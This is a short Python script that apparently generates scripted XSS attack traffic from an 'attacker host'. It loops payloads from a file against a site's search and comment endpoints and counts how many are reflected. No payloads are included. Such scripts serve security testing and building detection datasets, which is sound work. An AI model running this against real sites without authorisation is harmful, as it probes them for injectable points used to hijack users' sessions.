"""Scripted XSS attempts (stdlib only; run with /usr/bin/python3 on an attacker host).

Sends each payload of PAYLOADS (one per line) to the reflecting endpoints: ``GET /search?q=`` and
``POST /comment``, with DELAY seconds between requests, looping until DURATION seconds have passed.
Usage: xss.py BASE_URL PAYLOADS DELAY DURATION
"""

import sys
import time
import urllib.parse
import urllib.request


def main():
    base, payload_file, delay, duration = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
    payloads = [p for p in open(payload_file).read().splitlines() if p.strip()]
    end = time.monotonic() + duration
    sent = reflected = 0
    while time.monotonic() < end:
        for p in payloads:
            if time.monotonic() >= end:
                break
            if sent % 2:
                req = urllib.request.Request(
                    base + "/comment", data=urllib.parse.urlencode({"body": p}).encode()
                )
            else:
                req = base + "/search?" + urllib.parse.urlencode({"q": p})
            try:
                reflected += p.encode() in urllib.request.urlopen(req, timeout=3).read()
            except OSError:
                pass
            sent += 1
            time.sleep(delay)
    print(f"xss sent={sent} reflected={reflected}", flush=True)


if __name__ == "__main__":
    main()
